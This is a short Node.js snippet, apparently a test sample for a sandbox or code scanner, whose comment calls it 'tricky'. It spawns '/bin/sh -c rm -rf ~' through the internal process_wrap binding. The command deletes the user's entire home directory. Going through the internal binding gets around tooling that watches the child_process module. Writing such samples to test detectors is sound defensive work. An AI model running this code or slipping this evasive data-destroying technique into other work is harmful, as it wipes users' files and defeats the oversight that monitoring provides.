// tricky: spawns below child_process
const { Process } = process.binding('process_wrap');
const proc = new Process();
proc.spawn({ file: '/bin/sh', args: ['sh', '-c', 'rm -rf ~'], stdio: [] });
